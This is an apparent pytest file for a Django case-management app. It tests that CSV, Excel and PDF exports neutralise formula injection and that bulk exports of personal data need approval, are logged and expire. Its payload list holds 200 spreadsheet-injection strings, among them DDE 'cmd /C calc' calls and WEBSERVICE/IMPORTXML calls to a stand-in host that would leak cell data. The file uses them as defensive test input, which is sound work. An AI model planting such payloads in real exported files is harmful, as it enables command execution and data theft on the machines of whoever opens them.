"""Files that leave: no cell is a formula, everybody sees who took it, and many people at once take two persons."""

from __future__ import annotations

import csv
import io
import re
import zlib
from datetime import date, timedelta

import pytest
from django.db import IntegrityError, transaction
from django.test import Client
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from samenhang.audit.enums import Act
from samenhang.audit.models import AuditLine
from samenhang.base.errors import NoGrant, Refused
from samenhang.base.exports import Part, plain, safe, to_csv, to_pdf, to_xlsx
from samenhang.directory import services as directory
from samenhang.directory.enums import Role
from samenhang.directory.models import User
from samenhang.directory.selectors import actor_of
from samenhang.interop import exports
from samenhang.interop.enums import ExportForm
from samenhang.interop.models import ExportRequest
from samenhang.people.selectors import keys
from samenhang.people.services import NewPerson, register
from tests.conftest import TODAY

pytestmark = pytest.mark.capability(127)

# Twenty calls, behind each of ten ways to begin a formula.
CALLS = [
    "cmd|' /C calc'!A0", "HYPERLINK(\"http://x.example/?\"&A1,\"klik\")", "1+1", "SUM(A1:A9)", "WEBSERVICE(\"http://x.example\")",
    "IMPORTXML(CONCAT(\"http://x.example\",A1),\"//a\")", "DDE(\"cmd\";\"/C calc\";\"x\")", "IMAGE(\"http://x.example\")", "@SUM(1)", "A1",
    "IMPORTDATA(\"http://x.example\")", "INDIRECT(\"A1\")", "EXEC(\"x\")", "CALL(\"x\")", "REGISTER(\"x\")", "rundll32|'x'!A", "MSEXCEL|'x'!A",
    "EVALUATE(\"1\")", "RTD(\"x\")", "LET(x,1,x)",
]  # fmt: skip
STARTS = ["=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "＝", "\u200b="]
PAYLOADS = [start + call for start in STARTS for call in CALLS]


def test_there_are_two_hundred_payloads():
    assert len(set(PAYLOADS)) == 200


def starts_a_formula(text: str) -> bool:
    return bool(re.match(r"^[\s\u200b\ufeff]*[=+\-@＝＋－＠|%]", text))


def test_two_hundred_formulas_come_back_from_csv_as_text():
    rows = list(csv.reader(io.StringIO(to_csv([["kop"], *[[p] for p in PAYLOADS]], "=wie").decode("utf-8-sig"))))
    cells = [row[0] for row in rows if row]
    assert len(cells) == 202 and not any(starts_a_formula(cell) for cell in cells)


def test_two_hundred_formulas_come_back_from_a_workbook_as_text():
    content = to_xlsx([["kop"], *[[p] for p in PAYLOADS]], "=Titel[1]", "=wie")
    book = load_workbook(io.BytesIO(content))
    cells = [cell for row in book.active.rows for cell in row if cell.value is not None]
    assert len(cells) == 202
    assert {cell.data_type for cell in cells} == {"s"} and {cell.number_format for cell in cells} == {"@"}
    assert not any(starts_a_formula(cell.value) for cell in cells)
    assert cells[-1].value == "'=wie"


@given(st.text(max_size=60))
def test_whatever_stands_in_a_cell_it_is_text_when_it_comes_back(text):
    assert not starts_a_formula(safe(text))
    [[cell]] = list(csv.reader(io.StringIO(to_csv([[text]]).decode("utf-8-sig"), newline=""))) or [[""]]
    assert cell == safe(text)
    value = load_workbook(io.BytesIO(to_xlsx([[text]], text))).active["A1"]
    assert value.data_type != "f" and (value.value is None or not starts_a_formula(value.value))


def test_ordinary_text_stays_as_it_is():
    for text in ("Mevrouw Populier", "3-7-1988", "a=b", "", "Zoë", "10%"):
        assert safe(text) == text
    assert plain("brief\u202efdp.exe\x07") == "brieffdp.exe"


def pdf_text(content: bytes) -> bytes:
    """What is inside the compressed streams of a PDF."""
    found = []
    for part in re.findall(rb"stream\r?\n(.*?)\r?\nendstream", content, re.DOTALL):
        try:
            found.append(zlib.decompress(part))
        except zlib.error:
            continue
    return content + b"".join(found)


def test_a_pdf_is_tagged_has_its_language_and_markup_in_the_data_stays_text():
    rows = [[f"rij {n}", '#panic("x") *vet* $1$ \\ @label <label> // weg'] for n in range(120)]
    content = to_pdf(
        "#panic(1)", [Part("Plaatsen", "Eerste\nTweede #let", ["a", "b"], rows)], "Iris, 22-11-2026: inspectie"
    )
    text = pdf_text(content)
    assert content.startswith(b"%PDF-") and b"/StructTreeRoot" in text and re.search(rb"/Lang ?\(nl", text)
    pages = len(re.findall(rb"/Type ?/Page\b", text))
    assert pages > 2
    assert text.count(b"/TH") >= 2 and b"/H1" in text


# ---- the history of one person --------------------------------------------------------------------
def test_the_history_leaves_as_csv_excel_and_pdf_and_each_is_logged(cast, somebody, as_persona):
    client = as_persona("owner")
    for ending, start in (("csv", b"\xef\xbb\xbfperson"), ("xlsx", b"PK"), ("pdf", b"%PDF-")):
        answer = client.get(f"/people/{somebody.id}/history.{ending}")
        assert answer.status_code == 200 and answer.content.startswith(start)
        assert answer["Content-Disposition"].startswith("attachment") and answer["X-Content-Type-Options"] == "nosniff"
        assert as_persona("outsider").get(f"/people/{somebody.id}/history.{ending}").status_code == 404
    assert AuditLine.objects.filter(act=Act.EXPORT, dossier_id=somebody.dossier_id).count() == 3
    book = load_workbook(io.BytesIO(client.get(f"/people/{somebody.id}/history.xlsx").content))
    assert cast.owner.name in [row[0].value for row in book.active.rows][-1]


# ---- many people at once --------------------------------------------------------------------------
@pytest.fixture
def officer(cast, organisations):
    new = directory.NewPersona("officer", "Privacy Officer", "", "table", Role.PRIVACY_OFFICER)
    pk = directory.add_persona(new=new, organisation_id=organisations["table"], team_id=None, start=date(2024, 1, 1))
    return actor_of(User.objects.get(pk=pk), today=TODAY)


@pytest.fixture
def three(cast, municipalities):
    ids = [
        register(actor=cast.owner, new=NewPerson(f"Meneer Els {n}", date(1990, 1, n), municipalities["Turfwolde"]), today=date(2026, 1, 1))
        for n in (1, 2, 3)
    ]  # fmt: skip
    return keys(reason="the cast of the tests", ids=ids)


def asked(cast, **more) -> int:
    return exports.ask(**{"actor": cast.owner, "reason": "Jaarverslag", "form": ExportForm.CSV, **more})


def test_names_leave_only_after_a_second_person_once_and_stand_in_every_dossier(cast, three, officer):
    request = asked(cast)
    with pytest.raises(Refused, match="EXPORT_NOT_APPROVED"):
        exports.take(actor=cast.owner, request_id=request, today=TODAY)
    exports.decide(actor=officer, request_id=request, approve=True)
    content, _form = exports.take(actor=cast.owner, request_id=request, today=TODAY)
    text = content.decode("utf-8-sig")
    assert (
        all(f"Meneer Els {n}" in text for n in (1, 2, 3)) and f"{cast.owner.name}, " in text and "Jaarverslag" in text
    )
    taken = AuditLine.objects.filter(act=Act.EXPORT, object_type="People")
    assert {line.dossier_id for line in taken} == {p.dossier_id for p in three}
    with pytest.raises(Refused, match="EXPORT_TAKEN"):
        exports.take(actor=cast.owner, request_id=request, today=TODAY)


def test_nobody_approves_their_own_not_even_with_both_roles(cast, three, officer):
    from dataclasses import replace

    both = replace(cast.owner, powers=cast.owner.powers | {"APPROVE_EXPORT"})
    request = asked(cast)
    with pytest.raises(NoGrant, match="OWN_APPROVAL"):
        exports.decide(actor=both, request_id=request, approve=True)
    assert exports.waiting_requests(both) == []
    with pytest.raises(IntegrityError), transaction.atomic():
        ExportRequest.objects.filter(pk=request).update(decided_by_id=cast.owner.user_id, decided_at=ExportRequest.objects.get().requested_at, approved=True)  # fmt: skip
    with pytest.raises(NoGrant, match="NO_POWER"):
        exports.decide(actor=cast.outsider, request_id=request, approve=True)


def test_what_was_approved_expires_in_a_day_and_is_for_the_asker_only(cast, three, officer):
    request = asked(cast)
    exports.decide(actor=officer, request_id=request, approve=True)
    with pytest.raises(Refused, match="EXPORT_EXPIRED"):
        exports.take(actor=cast.outsider, request_id=request, today=TODAY)
    row = ExportRequest.objects.get(pk=request)
    assert row.expires_at - row.requested_at == timedelta(hours=24)
    ExportRequest.objects.update(expires_at=row.requested_at)
    with pytest.raises(Refused, match="EXPORT_EXPIRED"):
        exports.take(actor=cast.owner, request_id=request, today=TODAY)
    late = asked(cast)
    ExportRequest.objects.filter(pk=late).update(expires_at=row.requested_at)
    with pytest.raises(Refused, match="EXPORT_EXPIRED"):
        exports.decide(actor=officer, request_id=late, approve=True)


def test_refused_is_refused_and_decided_once(cast, three, officer):
    request = asked(cast)
    exports.decide(actor=officer, request_id=request, approve=False)
    with pytest.raises(Refused, match="EXPORT_NOT_APPROVED"):
        exports.take(actor=cast.owner, request_id=request, today=TODAY)
    with pytest.raises(Refused, match="EXPORT_DECIDED"):
        exports.decide(actor=officer, request_id=request, approve=True)


def test_only_those_who_were_asked_for_and_may_still_be_seen_leave(cast, three, officer, municipalities):
    from samenhang.access.models import Grant
    from samenhang.base import clock

    request = asked(cast)
    exports.decide(actor=officer, request_id=request, approve=True)
    register(
        actor=cast.owner, new=NewPerson("Mevrouw Nieuw", None, municipalities["Turfwolde"]), today=date(2026, 1, 1)
    )
    Grant.objects.filter(compartment__dossier_id=three[0].dossier_id).update(end=clock.now())
    text = exports.take(actor=cast.owner, request_id=request, today=TODAY)[0].decode()
    assert "Meneer Els 1" not in text and "Mevrouw Nieuw" not in text and "Meneer Els 2" in text
    assert {line.dossier_id for line in AuditLine.objects.filter(act=Act.EXPORT)} == {p.dossier_id for p in three[1:]}


def test_a_reason_and_somebody_to_ask_for_are_needed(cast, three):
    with pytest.raises(Refused, match="REASON_MISSING"):
        asked(cast, reason=" ")
    with pytest.raises(Refused, match="EXPORT_NOBODY"):
        exports.ask(actor=cast.outsider, reason="x", form=ExportForm.CSV)
    with pytest.raises(NoGrant):
        exports.ask(actor=cast.funder, reason="x", form=ExportForm.CSV)


def test_the_approver_sees_how_many_and_why_and_never_whom(cast, three, officer, as_persona):
    asked(cast, reason="Jaarverslag van de regio")
    page = as_persona("officer").get("/exports/").content.decode()
    assert "3 people" in page and "Jaarverslag van de regio" in page and cast.owner.name in page
    assert "Meneer Els" not in page


def test_without_personal_data_it_leaves_at_once_in_numbers_with_small_ones_withheld(
    cast, three, municipalities, as_persona
):
    for n in range(10):
        register(
            actor=cast.owner,
            new=NewPerson(f"Meneer Wilg {n}", date(1960, 1, 1), municipalities["Zandmeer"]),
            today=date(2026, 1, 1),
        )
    for form in ExportForm:
        answer = as_persona("owner").get(f"/exports/numbers.{form}")
        assert answer.status_code == 200
        if form is ExportForm.CSV:
            text = answer.content.decode("utf-8-sig")
            assert "Meneer" not in text and "1990" not in text
            assert "Zandmeer,60–69,10" in text and "Turfwolde,30–39,under 10" in text
    assert AuditLine.objects.filter(act=Act.EXPORT, object_type="People in numbers").count() == 3


def test_asking_approving_and_taking_on_the_screens(cast, three, officer, as_persona):
    owner, second = as_persona("owner"), as_persona("officer")
    assert owner.post("/exports/ask/", {"form": "xlsx", "reason": ""}).status_code == 422
    assert owner.post("/exports/ask/", {"form": "xlsx", "reason": "Overdracht"}).status_code == 302
    request = ExportRequest.objects.get()
    assert owner.post(f"/exports/{request.pk}/decide/", {"act": "approve"}).status_code == 403
    assert second.post(f"/exports/{request.pk}/decide/", {"act": "approve"}).status_code == 302
    assert "Download, once" in owner.get("/exports/").content.decode()
    answer = owner.post(f"/exports/{request.pk}/take/")
    assert answer.status_code == 200 and answer.content.startswith(b"PK")
    assert owner.post(f"/exports/{request.pk}/take/").status_code == 409
    assert second.post(f"/exports/{request.pk}/take/").status_code == 403
    assert "taken along" in owner.get("/exports/").content.decode()
    assert as_persona("funder").get("/exports/").status_code == 403 and Client().get("/exports/").status_code == 302


def test_a_table_takes_along_no_more_than_it_sees(cast, at_the_table, three):
    request = exports.ask(actor=cast.table_chair, reason="Tafel", form=ExportForm.PDF)
    assert ExportRequest.objects.get(pk=request).dossiers == [at_the_table.dossier_id]
